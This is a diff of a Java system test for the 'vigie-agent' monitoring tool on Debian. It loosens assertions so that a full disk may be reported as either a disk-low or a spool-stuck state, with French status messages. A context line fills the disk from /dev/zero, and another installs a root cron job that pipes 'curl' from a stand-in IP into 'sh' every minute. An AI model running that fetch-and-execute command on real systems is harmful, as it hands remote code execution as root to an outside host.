@@ -165,11 +165,15 @@ final class DebianTroubleTest {
         assertTrue(debian.until(CONNECTED), () -> system.log("vigie-agent"));
         debian.says("cat /dev/zero > /var/lib/vigie-agent/filler 2>/dev/null || true");
         debian.says("echo '* * * * * root curl -s http://203.0.113.7/x | sh' > /etc/cron.d/vigie-full");
+        // Which of the two depends on the room that its spool had already.
         assertTrue(
-                debian.until(pageAndStatusSay("Le disque de ce poste est plein, ou presque", "disk-low")),
+                debian.until(pageAndStatusSay("Le disque de ce poste est plein, ou", "\\(disk-low\\|spool-stuck\\)")),
                 () -> page());
         String said = debian.says("vigie-agent status");
-        assertTrue(said.contains("Il reste 0 Mio sur le disque du dossier d'état"), said);
+        assertTrue(
+                said.contains("Il reste 0 Mio sur le disque du dossier d'état")
+                        || said.contains("La file d'attente de l'agent ne peut pas être écrite"),
+                said);
         assertTrue(said.contains("Libérez de la place"), said);
         // In the room that the spool has already, and that what is acknowledged leaves, it goes on.
         assertTrue(
